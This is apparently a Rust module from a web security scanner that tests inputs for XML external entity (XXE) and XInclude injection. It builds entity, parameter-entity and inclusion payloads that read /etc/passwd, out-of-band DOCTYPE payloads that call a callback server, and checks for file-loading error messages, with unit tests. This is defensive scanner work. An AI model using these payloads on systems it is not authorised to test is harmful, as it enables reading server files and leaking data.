//! External entities and inclusions in XML: by the contents of a file, by the error about one that is missing, by
//! a connection to us.
//!
//! Documents that a request sends are built anew with a document type; a value that may be put into a
//! document by the application gets an inclusion (XInclude 1.0); requests that send something else are sent
//! as XML once, since some frameworks read whatever comes.

use vedette_protocol::finding::{Confidence, FindingType, ShownBy};

use super::{Of, Test, nothing_afterwards, shows_passwd};
use crate::web::{
    call::{self, Call},
    input::{Payload, Place, inputs},
    request::Body,
    response::Response,
    trial::{Company, Proof, Stop, Subject, Trial, Verdict},
};

pub(crate) const TEST: Test = Test {
    name: "xxe",
    of: Of::Input,
    budget: 16,
    judge,
    afterwards: nothing_afterwards,
};

fn judge(trial: &Trial<'_>) -> Verdict {
    if let Some(document) = document(trial.subject) {
        for (way, prepare) in WAYS {
            let send = |file: &str, nth| {
                let text = prepare(&document.text, file);
                let payload = match document.whole {
                    true => Payload::Document("text/xml", text),
                    false => Payload::Value(text),
                };
                trial.shot(payload, nth, Company::Any)
            };
            if let Some(proof) = judged(trial, way, &send)? {
                return Ok(Some(proof));
            }
        }
    }
    let include = |file: &str, nth| {
        let text = format!("<k xmlns:xi=\"{XINCLUDE}\"><xi:include parse=\"text\" href=\"{file}\"/></k>");
        trial.shot(Payload::Value(text), nth, Company::Any)
    };
    if trial.subject.input.place == Place::Xml {
        return Ok(None);
    }
    judged(trial, "inclusion in a value", &include)
}

/// For parsers of which nothing is shown: all that a document may have loaded, at one address.
pub(super) fn calls(subject: &Subject) -> Vec<Call> {
    let Some(Document { text, whole }) = document(subject) else {
        return Vec::new();
    };
    let payload = move |text: String| match whole {
        true => Payload::Document("text/xml", text),
        false => Payload::Value(text),
    };
    let url = |place: call::Place, name| format!("http://{}:{}/{name}", place.host(), place.port());
    let plain = text.clone();
    let proof = Proof {
        type_: FindingType::WebXxe,
        confidence: Confidence::Certain,
        shown_by: ShownBy::Callback,
        detail: "document type",
    };
    vec![Call::new(
        proof,
        move |place| {
            let (head, root) = without_declaration(&text);
            let (name, body) = (root_name(root), with_texts(root, "&k;"));
            let loaded = |of| url(place, of);
            payload(format!(
                "{head}<!DOCTYPE {name} SYSTEM \"{}\" [<!ENTITY k SYSTEM \"{}\"><!ENTITY % p SYSTEM \"{}\"> %p;]>{body}",
                loaded("d"),
                loaded("k"),
                loaded("p"),
            ))
        },
        // The same as text, which nothing loads.
        move |place| {
            let (head, root) = without_declaration(&plain);
            let (name, body) = (root_name(root), with_texts(root, "&k;"));
            payload(format!(
                "{head}<!DOCTYPE {name} [<!ENTITY k \"{}\">]>{body}",
                url(place, "k")
            ))
        },
    )]
}

/// Whether a file is shown, or the error about one that is missing names it.
fn judged<'a>(
    trial: &Trial<'_>,
    way: &'static str,
    send: &dyn Fn(&str, u16) -> Result<&'a Response, Stop>,
) -> Verdict {
    let shows = |reply: &Response| shows_passwd(reply) && !trial.subject.base.iter().any(shows_passwd);
    let missing = |number| format!("file:///{}/missing", trial.token(number));
    let proof = |confidence, shown_by| Proof {
        type_: FindingType::WebXxe,
        confidence,
        shown_by,
        detail: way,
    };
    let reply = send(FILE, 0)?;
    if shows(reply) {
        let sound = !shows(send(&missing(50), 0)?) && shows(send(FILE, 1)?);
        return Ok(sound.then(|| proof(Confidence::Certain, ShownBy::FileContents)));
    }
    let complained = |number| {
        let name = format!("{}/missing", trial.token(number));
        Ok::<_, Stop>(complains(&send(&missing(number), 0)?.text(), &name))
    };
    Ok((complained(50)? && complained(51)?).then(|| proof(Confidence::Firm, ShownBy::LoadError)))
}

/// Whether an error about loading names a file. Whoever repeats the document, in a page or in an error of his
/// own, repeats the name too: with the words around it that are ours.
fn complains(text: &str, name: &str) -> bool {
    text.lines().chain(text.split('<')).any(|line| {
        line.contains(name)
            && LOADING.iter().any(|words| line.contains(words))
            && !["ENTITY", "href="].iter().any(|ours| line.contains(ours))
    })
}

struct Document {
    text: String,
    /// Whether it is the whole body.
    whole: bool,
}

/// The document that this input stands for, if it is the one that stands for it.
fn document(subject: &Subject) -> Option<Document> {
    let (request, input, value) = (&subject.request, &subject.input, &subject.value);
    let first = |wanted: fn(Place) -> bool| {
        inputs(request)
            .into_iter()
            .find(|input| wanted(input.place))
            .as_ref()
            == Some(input)
    };
    match (&request.body, input.place) {
        (Body::Text(_, text), Place::Xml) if first(|place| place == Place::Xml) => Some(Document {
            text: text.clone(),
            whole: true,
        }),
        (Body::Json(_) | Body::Form(_), Place::Json | Place::Form)
            if first(|place| matches!(place, Place::Json | Place::Form)) && !value.starts_with('<') =>
        {
            let fields = inputs(request)
                .into_iter()
                .filter(|input| matches!(input.place, Place::Json | Place::Form));
            let fields: String = fields
                .filter_map(|input| {
                    let name = input.name.rsplit('/').next()?.to_owned();
                    let plain = name.starts_with(|c: char| c.is_ascii_alphabetic())
                        && name
                            .chars()
                            .all(|c| c.is_ascii_alphanumeric() || "_-".contains(c));
                    plain.then(|| format!("<{name}>k</{name}>"))
                })
                .collect();
            Some(Document {
                text: format!("<root>{fields}</root>"),
                whole: true,
            })
        }
        (Body::Multipart(_), Place::Multipart) if is_file(subject) => Some(Document {
            text: "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>k</text></svg>".to_owned(),
            whole: false,
        }),
        _ if value.trim_start().starts_with('<') && value.contains("</") => Some(Document {
            text: value.clone(),
            whole: false,
        }),
        _ => None,
    }
}

fn is_file(subject: &Subject) -> bool {
    let Body::Multipart(parts) = &subject.request.body else {
        return false;
    };
    parts
        .iter()
        .any(|part| part.name == subject.input.name && part.file.is_some())
}

/// How a document is made to load a file.
type Prepare = fn(&str, &str) -> String;

const WAYS: &[(&str, Prepare)] = &[
    ("entity", |document, file| {
        let (head, root) = without_declaration(document);
        let name = root_name(root);
        let root = with_texts(root, "&k;");
        format!("{head}<!DOCTYPE {name} [<!ENTITY k SYSTEM \"{file}\">]>{root}")
    }),
    ("inclusion", |document, file| {
        let (head, root) = without_declaration(document);
        let include = format!("<xi:include xmlns:xi=\"{XINCLUDE}\" parse=\"text\" href=\"{file}\"/>");
        format!("{head}{}", with_texts(root, &include))
    }),
    ("parameter entity", |document, file| {
        let (head, root) = without_declaration(document);
        let name = root_name(root);
        format!("{head}<!DOCTYPE {name} [<!ENTITY % k SYSTEM \"{file}\"> %k;]>{root}")
    }),
];

/// The XML declaration, and what follows it and a document type of its own.
fn without_declaration(document: &str) -> (&str, &str) {
    let start = document.trim_start();
    let (head, rest) = match start.find("?>").filter(|_| start.starts_with("<?xml")) {
        Some(end) => start.split_at(end + 2),
        None => ("", start),
    };
    let rest = rest.trim_start();
    let root = match rest.starts_with("<!DOCTYPE") {
        true => rest
            .find("]>")
            .map(|end| end + 2)
            .or_else(|| rest.find('>').map(|end| end + 1))
            .map_or(rest, |end| &rest[end..]),
        false => rest,
    };
    (head, root)
}

fn root_name(root: &str) -> &str {
    let rest = root.trim_start().trim_start_matches('<');
    rest.split([' ', '>', '/', '\n', '\t']).next().unwrap_or("k")
}

/// Every text of the document's elements replaced.
fn with_texts(root: &str, text: &str) -> String {
    let mut out = String::new();
    let mut rest = root;
    while let Some(end) = rest.find('>') {
        let (tag, after) = rest.split_at(end + 1);
        out.push_str(tag);
        let next = after.find('<').unwrap_or(after.len());
        let opens = !tag.ends_with("/>") && !tag.contains("</");
        if opens && after[next..].starts_with("</") {
            out.push_str(text);
            rest = &after[next..];
        } else {
            rest = after;
        }
    }
    out.push_str(rest);
    out
}

const FILE: &str = "file:///etc/passwd";
const XINCLUDE: &str = "http://www.w3.org/2001/XInclude";
/// What parsers say about what they could not load.
const LOADING: &[&str] = &[
    "failed to load",
    "Failed to load",
    "could not load",
    "No such file",
    "FileNotFound",
    "I/O error",
    "I/O warning",
    "Could not find",
    "cannot find",
    "failed to open",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_error_that_repeats_the_document_is_none_about_loading_it() {
        let name = "vq00012/missing";
        for repeats in [
            "ls: cannot access '/shop/<k xmlns:xi=\"x\"><xi:include href=\"file:///vq00012/missing\"/></k>': No such file",
            "ls: cannot access '&lt;xi:include href=&quot;file:///vq00012/missing&quot;/&gt;': No such file",
            "cannot find <!ENTITY k SYSTEM \"file:///vq00012/missing\">",
            "shown: file:///vq00012/missing",
        ] {
            assert!(!complains(repeats, name), "{repeats}");
        }
        let error = "<pre>I/O error: failed to load \"file:///vq00012/missing\": No such file</pre>";
        assert!(complains(error, name));
    }

    #[test]
    fn documents_are_built_anew_around_their_elements() {
        let made = WAYS[0].1(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE a><a b=\"c\"><d>text</d><e/></a>",
            "file:///x",
        );
        assert_eq!(
            made,
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY k SYSTEM \"file:///x\">]><a b=\"c\"><d>&k;</d><e/></a>"
        );
    }
}
